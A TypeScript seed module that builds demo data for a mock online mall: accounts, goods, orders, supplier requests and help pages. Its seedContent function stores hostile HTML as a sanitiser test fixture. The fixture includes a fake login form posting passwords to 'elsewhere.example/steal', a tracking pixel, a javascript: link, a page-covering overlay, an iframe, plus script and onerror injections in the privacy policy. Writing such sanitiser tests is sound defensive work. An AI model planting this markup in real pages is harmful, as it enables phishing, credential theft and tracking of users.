// The deterministic seed of one shop, from its profile: the PRNG is keyed by mall path and shop id (plus
// an optional salt), and every date is relative to `base`, the gateway clock when the shop was seeded.
import { PERMISSION_CODES } from '../../engine';
import type { MenuItem, ResolvedProfile, ShopProfile } from '../../engine';
import type { ManagedGoods } from '../../engine';
import { CATEGORY_TREE, DEFAULT_CUSTOM_PAGES, HELP_COLUMNS, SPECIAL_GOODS } from './catalogue';
import type { CategorySeed, SpecialSeed } from './catalogue';
import { createRandom } from './prng';
import type { Random } from './prng';
import { regionPath } from './regions';
import type { RegionPath } from './regions';
import { DAY, HOUR } from './time';
import type { Category, PurchaseRequest, ShopDb, Sku, StoredAddress, User } from './db';

export const DEMO_PASSWORD = 'Demo@2026';

/** What guests hold (spec 1 §6): the login link, the cart and the mobile QR code. */
export const GUEST_CODES = ['F000038', 'F000041', 'F000039'];

const ALL_CODES = Object.keys(PERMISSION_CODES);
const EQUITY_CODES = ['F000370', 'F000514'];
const POINTS_CODES = ['F000513', 'F000300'];
const REVIEW_CODES = ['F000143'];
const SUPPLIER_CODES = ['F000430', 'F000382', 'F000383'];
const NOT_FOR_MEMBERS = new Set([
  'F000038',
  ...EQUITY_CODES,
  ...POINTS_CODES,
  ...REVIEW_CODES,
  ...SUPPLIER_CODES,
]);
const VIEWER_CODES = [
  'F000310',
  'F000039',
  'F000060',
  'F000061',
  'F000176',
  'F000641',
  'F000180',
  'F000183',
  'F000190',
  'F000193',
  'F000184',
  'F000672',
];

export const round2 = (value: number) => Math.round(value * 100) / 100;

export const isPointsMode = (profile: ShopProfile) => profile.capabilities?.['price.mode'] === 'points';

/** Whether the shop's rules send some user to the order review view: its orders then start 待审核. */
export const ordersNeedReview = (profile: ShopProfile) =>
  (profile.rules ?? []).some((rule) => rule.set['orders.view'] === 'review');

function memberCodes(profile: ShopProfile): string[] {
  return [
    ...ALL_CODES.filter((code) => !NOT_FOR_MEMBERS.has(code)),
    ...(profile.shopInfo?.hasEquity ? EQUITY_CODES : []),
    ...(isPointsMode(profile) ? POINTS_CODES : []),
  ];
}

interface AccountSeed {
  account: string;
  nickName: string;
  roleId: number | null;
  supplier?: boolean;
  privacyAgreed: boolean;
  codes: (profile: ShopProfile) => string[];
}

export const ACCOUNTS: AccountSeed[] = [
  { account: 'member', nickName: '演示会员', roleId: 1, privacyAgreed: true, codes: memberCodes },
  {
    account: 'reviewer',
    nickName: '订单审核员',
    roleId: 2,
    privacyAgreed: true,
    codes: (p) => [...memberCodes(p), ...REVIEW_CODES],
  },
  {
    account: 'supplier',
    nickName: '供应商小王',
    roleId: 1,
    supplier: true,
    privacyAgreed: true,
    codes: (p) => [...memberCodes(p), ...SUPPLIER_CODES],
  },
  { account: 'viewer', nickName: '只读访客', roleId: 3, privacyAgreed: true, codes: () => VIEWER_CODES },
  { account: 'newcomer', nickName: '新注册用户', roleId: 1, privacyAgreed: false, codes: memberCodes },
];

export function newUser(
  db: ShopDb,
  fields: Pick<
    User,
    'account' | 'password' | 'nickName' | 'phone' | 'roleId' | 'supplier' | 'codes' | 'privacyAgreed'
  >,
): User {
  return {
    ...fields,
    id: db.resolved.profile.shop.id * 100 + db.users.size + 1,
    levelId: 1,
    cart: [],
    favourites: [],
    addresses: [],
    searchHistory: [],
    browseHistory: [],
    requests: [],
  };
}

const code3 = (prefix: string, index: number) => `${prefix}${String(index + 1).padStart(2, '0')}`;

function categoriesOf(tree: CategorySeed[], parent = 'C', group = ''): Category[] {
  return tree.map((node, index) => {
    const categoryCode = parent === 'C' ? `C${index + 1}` : code3(parent, index);
    const categoryGroupNo = group || String(index + 1);
    return {
      categoryCode,
      categoryName: node.name,
      categoryGroupNo,
      childCategory: node.children ? categoriesOf(node.children, categoryCode, categoryGroupNo) : null,
    };
  });
}

/** [first, second, last] codes of each third-level category, by name. */
function leafPaths(categories: Category[]): Map<string, [string, string, string]> {
  const paths = new Map<string, [string, string, string]>();
  for (const first of categories)
    for (const second of first.childCategory ?? [])
      for (const last of second.childCategory ?? [])
        paths.set(last.categoryName, [first.categoryCode, second.categoryCode, last.categoryCode]);
  return paths;
}

interface PriceSet {
  price: (money: number) => number;
}

function goodsSeed(db: ShopDb, random: Random, prices: PriceSet): void {
  const paths = leafPaths(db.categories);
  const supplier = () => random.pick(['商城自营', '品牌直供', '优选供应商']);
  let rank = 0;
  const add = (sku: Omit<Sku, 'rank'>) => db.skus.set(sku.goodsSkuCode, { ...sku, rank: rank++ });
  const base = (
    name: string,
    money: number,
    category: string,
  ): Omit<Sku, 'rank' | 'goodsCode' | 'goodsSkuCode' | 'brandName' | 'unit'> => {
    const path = paths.get(category);
    if (!path) throw new Error(`unknown seed category ${category}`);
    return {
      goodsName: name,
      goodsSkuName: name,
      categoryCodes: path,
      sellingPrice: prices.price(money),
      marketPrice: prices.price(money * 1.2),
      supplyPrice: round2(money * 0.8),
      quotaIntrgral: 0,
      isQuotaGoods: 0,
      discountRate: null,
      labelImgUrl: '',
      usableNum: random.int(20, 999),
      salesNum: random.int(0, 5000),
      shelvesStatus: 1001,
      deleted: false,
      pointsBatchCanBuy: 1,
      goodsType: 1001,
      orderGoodsType: 1001,
      virtualOrder: 0,
      isOpenLadderPrice: 0,
      ladderPriceGoodsList: [],
      salesAreas: [],
      activity: null,
      createTime: db.base - random.int(1, 365) * DAY,
      supplierName: supplier(),
    };
  };

  for (const special of SPECIAL_GOODS) {
    const money = round2(special.price * (0.9 + random.next() * 0.2));
    const common = {
      ...base(special.name, money, special.category),
      ...specialFields(special, money, db.base, prices),
    };
    const skus = special.skus ?? [['', common.usableNum] as const];
    skus.forEach(([suffix, stock], index) =>
      add({
        ...common,
        goodsCode: special.code,
        goodsSkuCode: `${special.code}-${String(index + 1).padStart(2, '0')}`,
        goodsSkuName: suffix ? `${special.name} ${suffix}` : special.name,
        brandName: special.brand,
        unit: special.unit,
        usableNum: stock,
      }),
    );
  }

  let index = 0;
  const walk = (nodes: CategorySeed[]) => {
    for (const node of nodes) {
      walk(node.children ?? []);
      for (const [name, brandName, unit, price] of node.goods ?? []) {
        index += 1;
        const goodsCode = `G-${String(index).padStart(4, '0')}`;
        const money = round2(price * (0.9 + random.next() * 0.2));
        const virtual = node.name === '影音会员' || node.name === '话费充值' || node.name === '出行卡券';
        add({
          ...base(name, money, node.name),
          goodsCode,
          goodsSkuCode: `${goodsCode}-01`,
          brandName,
          unit,
          ...(virtual ? { goodsType: 1002, orderGoodsType: 1002, virtualOrder: 1 } : {}),
          ...(random.next() < 0.12 ? { labelImgUrl: '/api/cdn/img/label-new.svg?w=48&h=20&text=NEW' } : {}),
        });
      }
    }
  };
  walk(CATEGORY_TREE);
}

function specialFields(special: SpecialSeed, money: number, base: number, { price }: PriceSet): Partial<Sku> {
  const flash = (start: number, end: number): Partial<Sku> => ({
    activity: {
      activityType: 4,
      activityPrice: price(money * 0.6),
      expireStartTime: base + start,
      expireEndTime: base + end,
    },
  });
  switch (special.code) {
    case 'G-ON-SALE':
      return { salesNum: 1288, usableNum: 500 };
    case 'G-OFF-SHELF':
      return { shelvesStatus: 1002 };
    case 'G-SOLD-OUT':
      return { usableNum: 0, salesNum: 3650 };
    case 'G-LOW-STOCK':
      return { usableNum: 3 };
    case 'G-AREA-EXCLUDED':
      return { salesAreas: [{ provinceIds: '1', cityIds: '', areaIds: '', limitType: 1001 }] };
    case 'G-AREA-ONLY':
      return { salesAreas: [{ provinceIds: '19', cityIds: '', areaIds: '', limitType: 1002 }] };
    case 'G-NO-POINTS':
      return { pointsBatchCanBuy: 0 };
    case 'G-FLASH-UPCOMING':
      return flash(2 * HOUR, DAY);
    case 'G-FLASH-RUNNING':
      return flash(-HOUR, 3 * DAY);
    case 'G-FLASH-ENDED':
      return flash(-2 * DAY, -DAY);
    case 'G-ACTIVITY':
      return { activity: { activityType: 3, activityPrice: price(money * 0.75) } };
    case 'G-DISCOUNT':
      return { discountRate: 8.5, marketPrice: price(money / 0.85) };
    case 'G-QUOTA':
      return { isQuotaGoods: 1, supplyPrice: round2(money * 0.5), quotaIntrgral: Math.round(money * 5) };
    case 'G-LADDER':
      return {
        isOpenLadderPrice: 1,
        ladderPriceGoodsList: [
          { minCount: 1, ladderSellingPrice: price(money) },
          { minCount: 10, ladderSellingPrice: price(money * 0.9) },
          { minCount: 50, ladderSellingPrice: price(money * 0.8) },
        ],
      };
    case 'G-VIRTUAL':
      return { goodsType: 1002, orderGoodsType: 1002, virtualOrder: 1 };
    case 'G-VIRTUAL-RECHARGE':
      return { orderGoodsType: 1002 };
    case 'G-DELETED':
      return { deleted: true, shelvesStatus: 1002 };
    default:
      return {};
  }
}

function address(
  db: ShopDb,
  fields: Omit<StoredAddress, keyof RegionPath | 'id'>,
  ids: Parameters<typeof regionPath>[0],
): StoredAddress {
  const path = regionPath(ids);
  if (!path) throw new Error('seed address has a broken region chain');
  db.sequence += 1;
  return { ...path, ...fields, id: db.sequence };
}

function menuItems(profile: ShopProfile): MenuItem[] {
  const walk = (items: MenuItem[] = []): MenuItem[] =>
    items.flatMap((item) => [item, ...walk(item.children)]);
  return Object.values(profile.menus ?? {}).flatMap((items) => walk(items));
}

/** Custom pages and help articles the profile's menus link to, as [id, title]. */
function linkedIds(profile: ShopProfile, route: string, param: string): [string, string][] {
  return menuItems(profile).flatMap((item) => {
    const path = item.path ?? '';
    if (!path.startsWith(route)) return [];
    const id = new URLSearchParams(path.split('?')[1] ?? '').get(param);
    return id ? [[id, item.title] as [string, string]] : [];
  });
}

function randomText(random: Random, length: number): string {
  const letters = 'ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnpqrstuvwxyz23456789';
  return Array.from({ length }, () => letters[random.int(0, letters.length - 1)]).join('');
}

function seedUsers(db: ShopDb): void {
  const { profile } = db.resolved;
  ACCOUNTS.forEach((seed, index) => {
    const user = newUser(db, {
      account: seed.account,
      password: DEMO_PASSWORD,
      nickName: seed.nickName,
      phone: `1380013${String(index + 1).padStart(4, '0')}`,
      roleId: seed.roleId,
      supplier: seed.supplier ?? false,
      codes: seed.codes(profile),
      privacyAgreed: seed.privacyAgreed,
    });
    const beijing = { provinceId: 1, cityId: 1, countyId: 72, townId: 7201 };
    user.addresses.push(
      address(
        db,
        {
          receiverName: seed.nickName.slice(0, 10),
          receiverPhone: user.phone,
          receiverAddress: '建国路88号SOHO现代城A座1201',
          aliasName: '公司',
          isDefault: 1,
        },
        beijing,
      ),
    );
    user.searchHistory = ['茶'];
    user.favourites = ['G-0002-01', 'G-0005-01'].map((goodsSkuCode, at) => ({
      id: (db.sequence += 1),
      goodsSkuCode,
      createTime: db.base - (at + 1) * DAY,
    }));
    db.users.set(user.account, user);
  });

  const member = db.users.get('member');
  if (member) {
    member.addresses.push(
      address(
        db,
        {
          receiverName: '演示会员',
          receiverPhone: member.phone,
          receiverAddress: '科技园南区深南大道9988号',
          aliasName: '深圳',
          isDefault: 0,
        },
        { provinceId: 19, cityId: 1607, countyId: 4110, townId: 411001 },
      ),
    );
    member.cart = [
      ['G-ON-SALE-01', 2],
      ['G-LADDER-01', 12],
      ['G-OFF-SHELF-01', 1],
      ['G-FLASH-RUNNING-01', 1],
      ['G-AREA-EXCLUDED-01', 1],
      ['G-0003-01', 1],
    ].map(([goodsSkuCode, quantity]) => ({
      goodsSkuCode: String(goodsSkuCode),
      quantity: Number(quantity),
      isCheck: 1,
    }));
    member.favourites = [
      'G-ON-SALE-01',
      'G-OFF-SHELF-01',
      'G-SOLD-OUT-01',
      'G-FLASH-RUNNING-01',
      'G-DELETED-01',
      'G-QUOTA-01',
      'G-0001-01',
      'G-0010-01',
    ].map((goodsSkuCode, at) => ({
      id: (db.sequence += 1),
      goodsSkuCode,
      createTime: db.base - (at + 1) * HOUR,
    }));
    member.searchHistory = [
      '茶',
      '龙井',
      '蓝牙耳机',
      '抽纸',
      '电饭煲',
      'Apple',
      '保温杯',
      '坚果',
      '洗衣液',
      '牙刷',
    ];
    member.browseHistory = ['G-0001-01', 'G-LADDER-01', 'G-0012-01', 'G-VIRTUAL-01', 'G-0020-01'].map(
      (goodsSkuCode, at) => ({ goodsSkuCode, time: db.base - (at + 1) * 3 * HOUR }),
    );
    const order = (orderStatus: 1001 | 1002 | 1003 | 1004, lines: [string, number][], daysAgo: number) => {
      const items = lines.flatMap(([code, quantity]) => {
        const sku = db.skus.get(code);
        return sku
          ? [
              {
                goodsCode: sku.goodsCode,
                goodsSkuCode: sku.goodsSkuCode,
                goodsSkuName: sku.goodsSkuName,
                goodsSkuImgUrl: `/api/cdn/img/${sku.goodsSkuCode}.svg`,
                quantity,
                unitMoney: db.pointsMode ? 0 : sku.sellingPrice,
                unitPoints: db.pointsMode ? sku.sellingPrice : 0,
              },
            ]
          : [];
      });
      const createTime = db.base - daysAgo * DAY;
      db.orders.push({
        orderNo: `DM${member.id}${String(db.orders.length + 1).padStart(4, '0')}`,
        userId: member.id,
        createTime,
        orderStatus,
        lines: items,
        goodsMoney: round2(items.reduce((total, line) => total + line.unitMoney * line.quantity, 0)),
        goodsPoints: items.reduce((total, line) => total + line.unitPoints * line.quantity, 0),
        freight: 0,
        address: member.addresses[0] ?? null,
        remark: '',
        virtual: false,
        rechargeAccount: '',
        reviewRemark: '',
      });
    };
    order(1004, [['G-0001-01', 1]], 30);
    order(
      1003,
      [
        ['G-0012-01', 2],
        ['G-0020-01', 1],
      ],
      5,
    );
    order(1002, [['G-LADDER-01', 10]], 1);
    if (ordersNeedReview(profile)) order(1001, [['G-0025-01', 3]], 0.5);
  }

  const supplier = db.users.get('supplier');
  if (supplier) {
    const request = (fields: Partial<PurchaseRequest>, daysAgo: number) => {
      db.sequence += 1;
      supplier.requests.push({
        id: db.sequence,
        goodsName: '',
        barCode: '',
        goodsBrand: '',
        goodsModel: '',
        goodsUrl: '',
        expectedPrice: '100.00',
        buyCount: '10',
        contacts: '王先生',
        concatPhone: '13800138000',
        reason: '部门日常采购需要',
        goodsImages: [`/api/cdn/img/report-${db.sequence}.svg`],
        rejectReason: null,
        auditStatus: null,
        websiteGoods: null,
        createTime: db.base - daysAgo * DAY,
        ...fields,
      });
    };
    request(
      {
        goodsName: '西湖龙井 特级 500g',
        goodsBrand: '狮峰',
        barCode: '6901234567890',
        expectedPrice: '480.00',
        buyCount: '20',
        auditStatus: 1001,
        websiteGoods: 'G-0001-01',
      },
      12,
    );
    request(
      {
        goodsName: '进口咖啡机 全自动',
        goodsBrand: '德龙',
        goodsModel: 'ECAM22',
        goodsUrl: 'https://shop.example.com/coffee',
        expectedPrice: '3999.00',
        buyCount: '2',
        auditStatus: 1002,
        rejectReason: '该商品已停产，暂无货源',
      },
      9,
    );
    request(
      {
        goodsName: '人体工学办公椅',
        goodsBrand: '西昊',
        expectedPrice: '899.00',
        buyCount: '15',
        reason: '新办公室入驻',
      },
      2,
    );
    request({ goodsName: '已下架的旧款茶具', auditStatus: 1001, websiteGoods: 'G-DELETED-01' }, 20);
    request(
      {
        goodsName: '视频会员 季卡',
        auditStatus: 1001,
        websiteGoods: 'G-VIRTUAL-01',
        expectedPrice: '68.00',
        buyCount: '50',
      },
      4,
    );
  }
}

function seedManaged(db: ShopDb, random: Random): void {
  const plan: [ManagedGoods['status'], Partial<ManagedGoods>][] = [
    ['draft', {}],
    ['draft', {}],
    ['onSale', {}],
    ['onSale', { restrictedRegions: ['1', '19'] }],
    ['onSale', { usesMallStock: true }],
    ['listed', {}],
    ['listed', { restrictedRegions: ['2'] }],
    ['stopped', {}],
    ['stopped', {}],
    ['pendingReview', {}],
    ['pendingReview', {}],
    ['rejected', {}],
    ['restrictionLifted', {}],
    ['onSale', { usesMallStock: true, restrictedRegions: ['4'] }],
  ];
  const pool = [...db.skus.values()].filter((sku) => /^G-\d/.test(sku.goodsCode));
  db.managed = plan.map(([status, extra], index) => {
    const sku = pool[(index * 3) % pool.length];
    const price = sku?.sellingPrice ?? 100;
    return {
      goodsSkuCode: `M-${String(index + 1).padStart(4, '0')}`,
      goodsName: sku?.goodsName ?? '供应商商品',
      status,
      restrictedRegions: [],
      usesMallStock: false,
      updateMode: index % 3 === 0 ? 'automatic' : 'manual',
      sellingPrice: price,
      officialPrice: round2(price * (0.95 + random.next() * 0.1)),
      ...extra,
    };
  });
}

function seedContent(db: ShopDb, random: Random): void {
  const { profile } = db.resolved;
  const name = profile.shop.name;
  const pageHtml = (title: string) =>
    `<h2>${title}</h2><p>欢迎来到${name}。本页面为演示内容，展示自定义页面的排版效果。</p><p><img src="/api/cdn/img/page-${encodeURIComponent(title)}.svg?w=800&h=240" alt="${title}" width="800" height="240"></p>`;
  for (const [id, title] of [
    ...Object.entries(DEFAULT_CUSTOM_PAGES),
    ...linkedIds(profile, '/customPage', 'pageId'),
  ]) {
    db.pages.set(id, { title, html: pageHtml(title) });
  }
  let helpId = 100;
  for (const column of HELP_COLUMNS) {
    for (const [columnName] of column.columns) {
      helpId += 1;
      db.help.set(String(helpId), {
        id: String(helpId),
        columnName,
        content: `<h3>${columnName}</h3><p>${name}${columnName}说明：此为演示帮助内容。</p>`,
      });
    }
  }
  for (const [id, columnName] of linkedIds(profile, '/helpCenter/helpCenter', 'id')) {
    db.help.set(id, {
      id,
      columnName,
      content: `<h3>${columnName}</h3><p>${name}${columnName}：此为演示帮助内容。</p>`,
    });
  }
  // Linked from no menu: the end-to-end test of the client's sanitiser opens it (helpCenter?id=hostile).
  db.help.set('hostile', {
    id: 'hostile',
    columnName: '安全测试',
    content:
      '<style>body{visibility:hidden}</style><p>安全测试正文</p>' +
      '<div style="position:fixed;inset:0;z-index:99999;background-color:red">遮罩</div>' +
      '<form action="https://elsewhere.example/steal"><input type="password" name="pw"><button>登录</button></form>' +
      '<img src="https://tracker.example/pixel.gif" alt="跟踪"><a href="javascript:alert(1)">点我</a>' +
      '<a href="https://elsewhere.example/">外站链接</a><iframe src="https://elsewhere.example/frame"></iframe>',
  });
  db.privacyPolicy = {
    privacyPolicyId: profile.shop.id * 10 + 1,
    privacyPolicyContent: [
      `<h2>${name}用户隐私协议</h2>`,
      `<p>欢迎使用${name}。我们重视您的个人信息和隐私保护，请您在使用前仔细阅读本协议。</p>`,
      '<h3>一、我们收集的信息</h3><p>为完成下单与配送，我们会收集您的收货人、手机号和收货地址。</p>',
      '<h3>二、信息的使用</h3><p>您的信息仅用于订单处理、售后服务与账户安全。</p>',
      // Harmless active content: the client's sanitiser must remove both.
      '<script>window.__demoPrivacyScriptRan = true;</script>',
      '<p><img src="/api/cdn/missing-image.png" onerror="window.__demoPrivacyOnerrorRan = true" alt="">如有疑问请联系客服。</p>',
    ].join(''),
  };
  if (profile.shopInfo?.hasEquity) {
    const card = (id: number, cardName: string, colour: string, expiresIn: number, codes: string[]) => ({
      interestsCardId: id,
      interestsCardName: cardName,
      cardBackgroundValue: colour,
      expirationTime: db.base + expiresIn,
      description: `<p>${cardName}：持卡可兑换指定权益商品，有效期内可用。</p>`,
      goodsSkuCodes: codes,
    });
    db.equityCards = [
      card(profile.shop.id * 10 + 1, '年度体检权益卡', '#C9A063', 180 * DAY, ['G-0001-01', 'G-0004-01']),
      card(profile.shop.id * 10 + 2, '生日礼遇权益卡', '#6A5ACD', 30 * DAY, ['G-0007-01']),
      card(profile.shop.id * 10 + 3, '健身畅享权益卡', '#2E8B57', 3 * DAY, ['G-VIRTUAL-01']),
      card(profile.shop.id * 10 + 4, '已过期的观影权益卡', '#999999', -10 * DAY, []),
    ];
  }
  db.encryption = { aesKey: randomText(random, 16), aesIv: randomText(random, 16) };
}

/** Seeds one shop. `salt` varies the PRNG for tests that want other data. */
export function seedShop(resolved: ResolvedProfile, base: number, salt = ''): ShopDb {
  const { profile } = resolved;
  const random = createRandom(`${profile.shop.mallPath}#${profile.shop.id}#${salt}`);
  const pointsMode = isPointsMode(profile);
  const db: ShopDb = {
    key: `${profile.shop.mallPath}#${profile.shop.id}`,
    resolved,
    base,
    pointsMode,
    skus: new Map(),
    categories: categoriesOf(CATEGORY_TREE),
    users: new Map(),
    sessions: new Map(),
    orders: [],
    managed: [],
    equityCards: [],
    pages: new Map(),
    help: new Map(),
    privacyPolicy: { privacyPolicyId: 0, privacyPolicyContent: '' },
    encryption: { aesKey: '', aesIv: '' },
    sequence: 1000,
  };
  goodsSeed(db, random, { price: (money) => (pointsMode ? Math.max(1, Math.round(money)) : round2(money)) });
  seedUsers(db);
  seedManaged(db, random);
  seedContent(db, random);
  return db;
}
